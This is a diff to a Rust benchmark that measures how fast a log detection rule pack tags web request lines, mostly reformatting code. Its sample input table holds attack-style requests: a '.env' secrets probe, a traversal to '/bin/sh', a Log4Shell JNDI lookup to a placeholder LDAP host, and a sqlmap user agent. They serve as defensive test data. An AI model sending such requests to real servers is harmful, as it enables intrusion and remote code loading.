@@ -8,6 +8,11 @@
 //! - decode + tag: the same, then the shipped pack evaluated with the `RegexSet` path;
 //! - evaluation only, `RegexSet` path against rule-by-rule evaluation, on pre-decoded events.
 
+#![allow(
+    clippy::disallowed_macros,
+    reason = "the report on stdout is this program's product"
+)]
+
 use std::hint::black_box;
 use std::path::Path;
 use std::time::{Duration, Instant};
@@ -50,7 +55,10 @@ const PATHS: &[(&str, &str)] = &[
     ("/.env", "python-requests/2.31"),
     ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "curl/8.4.0"),
     ("/?x=${jndi:ldap://198.51.100.7:1389/a}", "Mozilla/5.0"),
-    ("/index.php?page=about", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+    (
+        "/index.php?page=about",
+        "sqlmap/1.7.2#stable (https://sqlmap.org)",
+    ),
     ("/static/app.js", "Mozilla/5.0 (X11; Linux x86_64)"),
 ];
 
@@ -81,11 +89,18 @@ fn decode(line: &str) -> EvalEvent {
 }
 
 fn rate(n: usize, d: Duration) -> String {
-    format!("{:>10.0} events/s  ({:.2} s)", n as f64 / d.as_secs_f64(), d.as_secs_f64())
+    format!(
+        "{:>10.0} events/s  ({:.2} s)",
+        n as f64 / d.as_secs_f64(),
+        d.as_secs_f64()
+    )
 }
 
 fn main() {
-    let n: usize = std::env::args().skip(1).find_map(|a| a.parse().ok()).unwrap_or(1_000_000);
+    let n: usize = std::env::args()
+        .skip(1)
+        .find_map(|a| a.parse().ok())
+        .unwrap_or(1_000_000);
     let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/ttp");
     let pack = load_dir(&rules).expect("the shipped pack loads").pack;
     let index = RuleIndex::new(&pack);
@@ -106,7 +121,11 @@ fn main() {
     }
     let decode_tag = start.elapsed();
 
-    let sample: Vec<EvalEvent> = lines.iter().take(n.min(200_000)).map(|l| decode(l)).collect();
+    let sample: Vec<EvalEvent> = lines
+        .iter()
+        .take(n.min(200_000))
+        .map(|l| decode(l))
+        .collect();
     let start = Instant::now();
     for event in &sample {
         black_box(index.evaluate(event, now));
@@ -120,8 +139,18 @@ fn main() {
 
     println!("decode only           {}", rate(n, decode_only));
     println!("decode + tag (set)    {}  {tags} tags", rate(n, decode_tag));
-    println!("  ratio (decode+tag)/decode = {:.2}  (target ≤ 2.0)", decode_tag.as_secs_f64() / decode_only.as_secs_f64());
-    println!("evaluate, RegexSet    {}  on {} pre-decoded events", rate(sample.len(), set_path), sample.len());
+    println!(
+        "  ratio (decode+tag)/decode = {:.2}  (target ≤ 2.0)",
+        decode_tag.as_secs_f64() / decode_only.as_secs_f64()
+    );
+    println!(
+        "evaluate, RegexSet    {}  on {} pre-decoded events",
+        rate(sample.len(), set_path),
+        sample.len()
+    );
     println!("evaluate, sequential  {}", rate(sample.len(), sequential));
-    println!("  speed-up sequential/RegexSet = {:.2}×  (target ≥ 3)", sequential.as_secs_f64() / set_path.as_secs_f64());
+    println!(
+        "  speed-up sequential/RegexSet = {:.2}×  (target ≥ 3)",
+        sequential.as_secs_f64() / set_path.as_secs_f64()
+    );
 }
